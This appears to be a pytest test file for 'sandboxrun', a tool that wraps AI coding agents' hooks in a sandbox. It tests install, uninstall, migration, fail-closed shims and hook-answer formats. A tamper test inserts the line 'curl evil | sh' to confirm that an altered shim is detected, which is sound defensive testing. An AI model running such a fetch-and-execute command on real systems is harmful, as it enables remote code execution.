    assert sorted(os.listdir(legacy)) == ["PreToolUse", "TaskStart"]
    assert sorted(os.listdir(sdk)) == ["PostToolUse"]
    shim = read_shim(legacy / "PreToolUse", home)
    assert shim is not None and shim.hooks_dirs == (
        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks"),
    )
    assert stat.S_IMODE((legacy / "PreToolUse").stat().st_mode) == 0o755
    assert stat.S_IMODE(legacy.stat().st_mode) == 0o711
    # `run` and `list` read the moved hooks in place, never the shims.
    found = CLINE.discover(None, [str(cline_ws)], str(home))
    assert sorted(h.name for h in found.hooks) == [
        str(cline_ws / ".sandboxrun/moved/.cline/hooks/PostToolUse.py"),
        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks/PreToolUse"),
        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks/TaskStart"),
    ]
    assert sum("a sandboxrun shim" in s.reason for s in found.skipped) == 3
    assert sandboxrun("install", *args) == 0  # again: no change
    assert sandboxrun("uninstall", *args) == 0
    assert snapshot(cline_ws) == before


def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home, movable) -> None:
    shim = cline_ws / ".clinerules/hooks/PreToolUse"
    sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws), "--home", str(home),
               "--fail-closed")  # fmt: skip
    assert read_shim(shim, home) is not None
    movable.unlink()
    assert read_shim(shim, home) is not None  # still one of ours: list names it as broken
    done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
    assert done.returncode == 0
    assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
        "errorMessage": f"sandboxrun (fail-closed): {launcher(home)[0]} finds no sandboxrun"
                        " (moved or uninstalled?)"}  # fmt: skip
    lines = shim.read_text().split("\n")  # a shim changed by one line: not ours any more
    shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
    assert read_shim(shim, home) is None


@pytest.mark.parametrize("form", ["old", "new"])
def test_cline_look_alike_shim_is_a_hook(cline_ws, home, capsys, form: str) -> None:
    """A file a repository shaped like a shim (running sandboxrun over folders and a
    config of its choosing) is a hook: `run` runs it in the sandbox, `list` names it
    unsandboxed, install moves it aside like any hook and uninstall puts it back."""
    folder = cline_ws / ".clinerules/hooks"
    options = ["--hooks-dir", "/", "--config", str(cline_ws / "x.toml")]
    if form == "new":
        text = shim_text(launcher(), "cline", "PostToolUse", options)
    else:  # what an older install wrote
        run = shlex.join([SR, "run", "PostToolUse", "--agent", "cline", "--answer", "agent",
                          *options])  # fmt: skip
        text = f"#!/bin/sh\n# sandboxrun shim: x\n# y\nexec {run}\n".encode()
    alike = folder / "PostToolUse"
    alike.write_bytes(text)
    alike.chmod(0o755)
    before = snapshot(cline_ws)
    found = CLINE.discover("PostToolUse", [str(cline_ws)], str(home))
    assert str(alike) in [h.name for h in found.hooks]
    assert read_shim(alike, home) is None
    capsys.readouterr()
    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
    assert f"not wrapped: {alike} runs unsandboxed" in capsys.readouterr().out
    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    moved = cline_ws / ".sandboxrun/moved/.clinerules/hooks/PostToolUse"
    assert moved.read_bytes() == text
    assert read_shim(alike, home).hooks_dirs == (str(moved.parent),)
    assert sandboxrun("uninstall", *args) == 0
    assert snapshot(cline_ws) == before


def old_shim(name: str, dirs: list[str]) -> bytes:
    """The bytes of a shim the earlier install (35cbcc0) wrote."""
    run = shlex.join([SR, "run", name, "--agent", "cline", "--answer", "agent",
                      *[w for d in dirs for w in ("--hooks-dir", d)]])  # fmt: skip
    return (
        "#!/bin/sh\n# sandboxrun shim: `sandboxrun uninstall --agent cline` puts the original"
        " hooks back.\n# It runs the hooks of its --hooks-dir folders in sandboxrun's sandbox.\n"
        f"exec {run}\n"
    ).encode()


def old_cline_install(base: Path, folders: dict[str, list[str]], dirs: Any) -> None:
    """Leave `base` as the earlier install did: each folder moved aside, and a shim (no
    record) per hook name given, over `dirs(moved)`."""
    for rel, names in folders.items():
        folder, moved = base / rel, base / ".sandboxrun/moved" / rel
        if folder.exists():
            moved.parent.mkdir(parents=True, exist_ok=True)
            mode = stat.S_IMODE(folder.stat().st_mode)
            folder.rename(moved)
            folder.mkdir()
            folder.chmod(mode)
        folder.mkdir(parents=True, exist_ok=True)
        for name in names:
            (folder / name).write_bytes(old_shim(name, dirs(moved)))
            (folder / name).chmod(0o755)


def test_cline_earlier_install_is_migrated(cline_ws, home, capsys) -> None:
    """Shims of an earlier sandboxrun (no record) whose hooks were moved aside are
    replaced by recorded shims of this install; the originals stay in moved/; uninstall
    gives back the folders as they were before the first install."""
    before = snapshot(cline_ws)
    folders = {".clinerules/hooks": ["PreToolUse"], ".cline/hooks": ["PostToolUse"]}
    old_cline_install(cline_ws, folders, lambda moved: [str(moved)])
    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    capsys.readouterr()
    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
    assert capsys.readouterr().out.count("written by an earlier sandboxrun?") == 2
    assert sandboxrun("install", *args) == 0
    assert capsys.readouterr().out.count("an earlier sandboxrun's shim, now a new one") == 2
    for rel, (name,) in folders.items():
        moved = str(cline_ws / ".sandboxrun/moved" / rel)
        shim = cline_ws / rel / name
        assert shim.read_bytes() == shim_text(
            launcher(home), "cline", name, ["--hooks-dir", moved, "--home", str(home)]
        )
        assert read_shim(shim, home).hooks_dirs == (moved,)
    found = CLINE.discover(None, [str(cline_ws)], str(home)).hooks
    assert sorted(h.name for h in found) == [
        str(cline_ws / ".sandboxrun/moved/.cline/hooks/PostToolUse.py"),
        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks/PreToolUse"),
        str(cline_ws / ".sandboxrun/moved/.clinerules/hooks/TaskStart"),  # SDK: no exec bit
    ]
    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
    assert "not wrapped" not in capsys.readouterr().out
    assert sandboxrun("uninstall", *args) == 0
    assert snapshot(cline_ws) == before
    # Never installed again: uninstall of the earlier install alone does the same.
    old_cline_install(cline_ws, folders, lambda moved: [str(moved)])
    assert sandboxrun("uninstall", *args) == 0
    assert snapshot(cline_ws) == before


def test_cline_earlier_global_forwarders_are_migrated(home, cline_ws, make_hook) -> None:
    make_hook(home / ".cline/hooks", "PreToolUse")
    before_home = snapshot(home)
    rels = {".cline/hooks": CLINE.hook_names, "Documents/Cline/Hooks": CLINE.hook_names}
    old_cline_install(home, rels, lambda moved: [str(moved), ".sandboxrun/moved/.cline/hooks",
                                                 ".sandboxrun/moved/.clinerules/hooks"])  # fmt: skip
    (home / "Documents/Cline/Hooks/.sandboxrun-made").write_text(f"{home}/Documents\n")
    assert sandboxrun("install", "--agent", "cline", "--global", "--home", str(home)) == 0
    assert_forwarded_once(home, own={".cline/hooks": ["PreToolUse"]})
    assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
    after = {k: v for k, v in snapshot(home).items() if not k.startswith(".local")}
    assert after == before_home


def assert_forwarded_once(home: Path, own: dict[str, list[str]]) -> None:
    """After `install --global`: one forwarder per hook file name, in the global folder
    both of Cline's engines read (the CLI reads both folders: a second forwarder would
    run each hook twice), running the workspace's moved hooks and its own; the other
    folder holds shims only for the hooks moved out of it (`own`), running those alone."""
    forwarder = home / "Documents/Cline/Hooks"
    names = sorted(n for n in os.listdir(forwarder) if n != ".sandboxrun-made")
    assert names == sorted(HOOK_NAMES)  # no `tool_call`...: the CLI runs no such file
    assert read_shim(forwarder / "PreToolUse", home).hooks_dirs == (
        str(home / ".sandboxrun/moved/Documents/Cline/Hooks"),
        ".sandboxrun/moved/.clinerules/hooks",
        ".sandboxrun/moved/.cline/hooks",
    )
    other = home / ".cline/hooks"
    assert (sorted(os.listdir(other)) if other.exists() else []) == own.get(".cline/hooks", [])
    for name in own.get(".cline/hooks", []):
        moved = str(home / ".sandboxrun/moved/.cline/hooks")
        assert read_shim(other / name, home).hooks_dirs == (moved,)


def older_global_install(home: Path) -> None:
    """Leave `home` as `install --global` did before issue 30: recorded forwarders for
    every name (the SDK's event names too) in both global folders, each made by install
    when missing."""
    record = Record(str(home))
    for rel in ("Documents/Cline/Hooks", ".cline/hooks"):
        folder, moved = home / rel, home / ".sandboxrun/moved" / rel
        top = folder
        while not top.parent.exists():
            top = top.parent
        if folder.exists():
            moved.parent.mkdir(parents=True, exist_ok=True)
            folder.rename(moved)
        folder.mkdir(parents=True)
        if not moved.exists():
            (folder / ".sandboxrun-made").write_text(f"{top}\n")
        dirs = [str(moved), ".sandboxrun/moved/.clinerules/hooks", ".sandboxrun/moved/.cline/hooks"]
        options = [w for d in dirs for w in ("--hooks-dir", d)]
        shims = {n: shim_text(launcher(home), "cline", n, options) for n in CLINE.hook_names}
        record.add(str(folder), {n: _files.sha256(c) for n, c in shims.items()})
        for name, content in shims.items():
            (folder / name).write_bytes(content)
            (folder / name).chmod(0o755)


@pytest.mark.parametrize("own", [[], ["PreToolUse", "TaskStart.py"]])
def test_cline_older_global_install_is_upgraded(home, make_hook, own) -> None:
    """`install --global` again turns the forwarders in both global folders (each hook
    ran twice under the CLI) into one; uninstall still restores every byte."""
    for name in own:
        make_hook(home / ".cline/hooks", name)
    before_home = snapshot(home)
    older_global_install(home)
    assert _cline_install.forwarder_folder(CLINE) == "Documents/Cline/Hooks"
    assert sandboxrun("install", "--agent", "cline", "--global", "--home", str(home)) == 0
    assert_forwarded_once(home, own={".cline/hooks": ["PreToolUse", "TaskStart"]} if own else {})
    assert (home / ".cline").exists() == bool(own)  # the older install made it: gone
    assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
    after = {k: v for k, v in snapshot(home).items() if not k.startswith(".local")}
    assert after == before_home


def test_cline_dry_run(cline_ws, home, capsys) -> None:
    before = snapshot(cline_ws)
    assert sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws),
                      "--home", str(home), "--dry-run") == 0  # fmt: skip
    out = capsys.readouterr().out
    assert f"+++ {cline_ws}/.clinerules/hooks/PreToolUse" in out
    assert "+exec " in out and out.rstrip().endswith("(dry run: nothing changed)")
    assert snapshot(cline_ws) == before


def test_cline_pulled_hook_is_named_then_moved(cline_ws, home, make_hook, capsys) -> None:
    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    sandboxrun("install", *args)
    new = make_hook(cline_ws / ".clinerules/hooks", "UserPromptSubmit")
    capsys.readouterr()
    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
    assert f"not wrapped: {new} runs unsandboxed" in capsys.readouterr().out
    assert sandboxrun("install", *args) == 0
    assert read_shim(new, home) is not None
    assert (cline_ws / ".sandboxrun/moved/.clinerules/hooks/UserPromptSubmit").exists()
    # A hook put in the moved folder after install has no shim: it runs nowhere.
    late = make_hook(cline_ws / ".sandboxrun/moved/.clinerules/hooks", "TaskCancel")
    capsys.readouterr()
    sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
    assert f"no shim: {late} does not run at all" in capsys.readouterr().out
    # The same name on both sides is refused, naming both.
    sandboxrun("uninstall", *args)
    sandboxrun("install", *args)
    (cline_ws / ".clinerules/hooks/lib.sh").write_text("again\n")
    assert sandboxrun("install", *args) == 2
    assert "both exist" in capsys.readouterr().err


def test_cline_interrupted_install_loses_nothing(cline_ws, home, monkeypatch) -> None:
    before = snapshot(cline_ws)
    args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    real = os.replace

    def crash(src: str, dst: str) -> None:
        raise OSError(5, "I/O error")

    monkeypatch.setattr(_files.os, "replace", crash)  # the first shim's write fails
    assert sandboxrun("install", *args) == 2
    monkeypatch.setattr(_files.os, "replace", real)
    assert sandboxrun("install", *args) == 0
    assert read_shim(cline_ws / ".clinerules/hooks/PreToolUse", home) is not None
    assert sandboxrun("uninstall", *args) == 0
    assert snapshot(cline_ws) == before


def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
    own = make_hook(home / ".cline/hooks", "PreToolUse")
    before_home = snapshot(home)
    assert sandboxrun("install", "--agent", "cline", "--global", "--home", str(home)) == 0
    # Documents/Cline/Hooks: made by install, which says how far up (`.sandboxrun-made`)
    assert (home / "Documents/Cline/Hooks/.sandboxrun-made").read_text() == f"{home}/Documents\n"
    assert_forwarded_once(home, own={".cline/hooks": [own.name]})
    # With forwarders in place, a workspace install only moves: no second run.
    ws_args = ["--agent", "cline", "--workspace", str(cline_ws), "--home", str(home)]
    assert sandboxrun("install", *ws_args) == 0
    assert os.listdir(cline_ws / ".clinerules/hooks") == []
    assert sandboxrun("uninstall", *ws_args) == 0
    assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
    after = {k: v for k, v in snapshot(home).items() if not k.startswith(".local")}
    assert after == before_home  # the Documents/Cline/Hooks it made are gone too
    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []  # no record left


# -- run --answer agent ------------------------------------------------------------------


def _result(answer: dict[str, Any], *outcomes: HookOutcome) -> CombinedResult:
    return CombinedResult(answer, outcomes)


def _claude(**fields: Any) -> dict[str, Any]:
    base = {"blocked": False, "permissionDecision": None, "reason": "", "additionalContext": "",
            "systemMessage": "", "continue": True, "stopReason": "", "updatedInput": None}  # fmt: skip
    return {**base, **fields}


def test_claude_block_is_exit_2_with_the_reason() -> None:
    out = _answer.agent_answer(CLAUDE, "PreToolUse", _result(
        _claude(blocked=True, permissionDecision="deny", reason="no rm -rf")))  # fmt: skip
    assert (out.stdout, out.stderr, out.exit_code) == (b"", b"no rm -rf\n", 2)


def test_claude_ask_context_and_stop() -> None:
    ask = _answer.agent_answer(CLAUDE, "PreToolUse", _result(
        _claude(permissionDecision="ask", reason="sure?", additionalContext="ctx")))  # fmt: skip
    assert ask.exit_code == 0
    assert json.loads(ask.stdout) == {"hookSpecificOutput": {
        "hookEventName": "PreToolUse", "permissionDecision": "ask",
        "permissionDecisionReason": "sure?", "additionalContext": "ctx"}}  # fmt: skip
    ctx = _answer.agent_answer(CLAUDE, "UserPromptSubmit", _result(
        _claude(additionalContext="x", systemMessage="m")))  # fmt: skip
    assert json.loads(ctx.stdout) == {"systemMessage": "m", "hookSpecificOutput": {
        "hookEventName": "UserPromptSubmit", "additionalContext": "x"}}  # fmt: skip
    stop = _answer.agent_answer(CLAUDE, "Stop", _result(
        _claude(blocked=True, reason="go on", **{"continue": False, "stopReason": "halt"})))  # fmt: skip
    assert json.loads(stop.stdout) == {"continue": False, "stopReason": "halt"}
    quiet = _answer.agent_answer(CLAUDE, "Notification", _result(_claude()))
    assert (quiet.stdout, quiet.exit_code) == (b"", 0)


def test_cline_answer_is_its_contract_alone() -> None:
    spec = HookSpec(hook_name="PreToolUse", name="/w/h", source="workspace", argv=("h",),
                    workdir="/w", mounts=())  # fmt: skip
    failed = HookOutcome(spec=spec, status="failed", error="exited with code 3")
    answer = {"cancel": True, "contextModification": "", "errorMessage": "no"}
    out = _answer.agent_answer(CLINE, "PreToolUse", _result(answer, failed))
    assert json.loads(out.stdout) == answer and out.exit_code == 0
    assert out.stderr == b"sandboxrun: hook /w/h failed: exited with code 3\n"


def test_errors_of_ours_do_not_block_unless_fail_closed() -> None:
    assert _answer.error_answer(CLAUDE, False, "no engine").exit_code == 1
    closed = _answer.error_answer(CLAUDE, True, "no engine")
    assert closed.exit_code == 2 and b"no engine" in closed.stderr
    cline = _answer.error_answer(CLINE, True, "no engine")
    assert json.loads(cline.stdout)["cancel"] is True and cline.exit_code == 0


def test_hooks_start_sandboxrun_hook_and_an_older_scripts_forms_still_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Installed hooks start `sandboxrun-hook` (the command without the entry point
    launcher's `import re`) when it lies beside `sandboxrun`, else `sandboxrun` itself;
    what an earlier install or `list` wrote with `sandboxrun` still counts as ours."""
    from sandboxrun._install import status as _status
    from sandboxrun._install.managed import is_forwarder

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    command = bin_dir / "sandboxrun"
    command.write_bytes(Path(SR).read_bytes())
    monkeypatch.setattr(_command, "executable", lambda: str(command))
    assert _command.hook_script() == str(command)  # an install without it
    hook = bin_dir / "sandboxrun-hook"
    hook.write_bytes(Path(HOOK).read_bytes())
    assert _command.hook_script() == str(hook)
    assert _command.launcher()[1:] == ["-I", str(hook)]
    for script in (command, hook):
        form = _status._hand_wrapper(str(script), "qwen", "./g.sh", True)
        assert _status._hand_wrapped(form, "qwen", workspace=True), form
        forwarder = {"command": f"{sys.executable} -I {script} run PreToolUse --answer agent"}
        assert is_forwarder(forwarder)
    other = bin_dir / "not-sandboxrun"
    form = _status._hand_wrapper(str(other), "qwen", "./g.sh", True)
    assert not _status._hand_wrapped(form, "qwen", workspace=True)
    assert not is_forwarder({"command": f"{sys.executable} -I {other} run X --answer agent"})
